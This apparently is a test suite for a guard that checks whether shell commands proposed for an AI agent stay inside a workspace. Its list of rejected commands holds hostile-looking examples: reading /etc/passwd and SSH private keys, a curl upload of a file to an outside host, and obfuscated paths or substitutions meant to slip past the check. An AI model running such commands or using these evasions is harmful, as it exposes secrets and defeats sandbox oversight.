import assert from 'node:assert/strict';
import fc from 'fast-check';
import { staysInside } from '../../../../src/claude/workspace/shellCommand.js';

/** A workspace in which `link` and everything below it is outside, as are absolute paths and `..`. */
const isInside = (path: string): Promise<boolean> =>
  Promise.resolve(!/^(?:\/|~)|(?:^|\/)\.\.(?:\/|$)|^link(?:\/|$)/.test(path));

const INSIDE = [
  'cat README.md',
  'cat -n src/a.ts src/b.ts',
  'head -n 20 src/a.ts',
  'head -20 src/a.ts',
  'ls -la src',
  'ls',
  'grep -rn TODO src',
  "grep -n 'a b' src/a.ts",
  'grep -c "x" a.txt',
  'rg -n needle src',
  'find src -name "*.ts" -type f',
  'git status',
  'git log --oneline -n 5',
  'git diff HEAD src/a.ts',
  'npm test',
  './run.sh now',
  'tools/run.sh',
  'npm run build',
  'cat a.txt | sort | uniq -c',
  'git status && git diff',
  'wc -l a.txt; ls src',
  'echo "done"',
  '  pwd  ',
];

const NOT_CERTAIN = [
  // Patterns, expansions and substitutions.
  'cat docs/l*/.ssh/id*',
  'cat .?/.?/etc/passwd',
  'cat [l]ink/a',
  'cat {link,src}/a',
  'cat $HOME/.ssh/id_rsa',
  'cat "$HOME/x"',
  'cat `echo link`/a',
  'cat $(echo link)/a',
  'cat ~/.ssh/id_rsa',
  'cat ~root/x',
  'cat lin\\k/a',
  "cat 'li'nk/a",
  'cat li"nk"/a',
  "cat $'\\x6cink'",
  'cat =ls',
  // Paths outside.
  'cat link/secret',
  'cat link',
  'cat /etc/passwd',
  'cat ../x',
  'grep X link',
  'git diff src/a link/b',
  'git show HEAD:link/a',
  'dd if=/etc/passwd',
  'awk -f /etc/passwd',
  "sed 'r /etc/passwd' a.txt",
  'curl -F x=@link/a example.org',
  // Options that follow links, recurse where links lead, or name a file.
  'grep -R X .',
  'grep -rR X .',
  'grep --dereference-recursive X .',
  'grep -f link/a b',
  'grep -flink/a b',
  'rg -L X docs',
  'rg --follow X docs',
  'rg -nL X',
  'ls -L docs',
  'ls -lH docs',
  'find -L . -name x',
  'find . -follow',
  'find . -exec cat x +',
  'find . -fprint a',
  'find . -newer link',
  'du -L docs',
  'stat -L docs/a',
  'diff -r docs src',
  'diff docs src',
  'sdiff docs src',
  'wc --files0-from=a',
  'sort -o a b',
  'sort --files0-from=a',
  'tree -l',
  'cp -rL docs x',
  'tar -ch docs',
  'git -C docs status',
  'git diff --no-index a b',
  'git log --output=x',
  'npm run build -- --watch',
  // Commands that run others, change what words mean, or show what is outside.
  'cd docs && cat x',
  'cd docs/l* && cat x',
  'sh -c ls',
  'bash x.sh',
  'env ls',
  'xargs cat',
  'ls | xargs cat',
  'eval ls',
  'source x',
  '. x',
  'time ls',
  'sudo ls',
  'timeout 5 ls',
  'CDPATH=link ls',
  'link/run.sh',
  '../run.sh',
  '/bin/cat a',
  'alias ls=cat',
  'printenv',
  'ps aux',
  'history',
  // Redirections, background commands, groups, comments and lines.
  'cat < link/a',
  'echo x > a',
  'ls 2>&1',
  'ls &',
  'ls & cat a',
  '(ls)',
  '{ ls; }',
  '! ls',
  'ls # comment',
  'ls\ncat link/a',
  'ls\rcat a',
  'ls \\\n-L',
  'cat <<EOF\nx\nEOF',
  'ls |& cat',
  'ls;;ls',
  '&& ls',
  'ls &&',
  'if true; then ls; fi x',
  'for x in a; do ls; done',
  'while true; do ls; done',
  "cat 'unclosed",
  '',
  '   ',
  'cat a\0b',
];

describe('staysInside', () => {
  for (const command of INSIDE) {
    it(`is certain about ${command}`, async () => {
      assert.equal(await staysInside(command, isInside), true);
    });
  }
  for (const command of NOT_CERTAIN) {
    it(`is not certain about ${JSON.stringify(command)}`, async () => {
      assert.equal(await staysInside(command, isInside), false);
    });
  }

  it('is never certain about a command that names a path outside, wherever it stands', async () => {
    const words = fc.array(fc.constantFrom('cat', 'grep', 'a', '-n', '|', '&&', "'x y'", 'src/a', ';'), {
      maxLength: 6,
    });
    await fc.assert(
      fc.asyncProperty(
        words,
        words,
        fc.constantFrom('link/a', '/etc/passwd', '../a', "'/etc/passwd'"),
        async (before, after, outside) => {
          const command = ['cat', ...before, 'x', outside, ...after].join(' ');
          assert.equal(await staysInside(command, isInside), false, command);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('is never certain about a command with a character that a shell expands outside of quotes', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.stringMatching(/^[a-z/. ]{0,12}$/),
        fc.constantFrom(...Array.from('*?[]{}$`\\~<>()#!&^\n\r\0')),
        fc.stringMatching(/^[a-z/. ]{0,12}$/),
        async (before, character, after) => {
          const command = `cat x${before}${character}${after}z`;
          assert.equal(await staysInside(command, () => Promise.resolve(true)), false, command);
        },
      ),
      { numRuns: 1000 },
    );
  });

  it('takes linear time for long commands', async () => {
    for (const unit of ["'a' ", 'a', ' ', '|', "'", '"', 'a=b,', '- ']) {
      const command = `cat ${unit.repeat(200_000)}`;
      const started = process.cpuUsage();
      await staysInside(command, () => Promise.resolve(true));
      const { user } = process.cpuUsage(started);
      assert.ok(user < 5_000_000, `${JSON.stringify(unit)}: ${user} µs`);
    }
  });
});
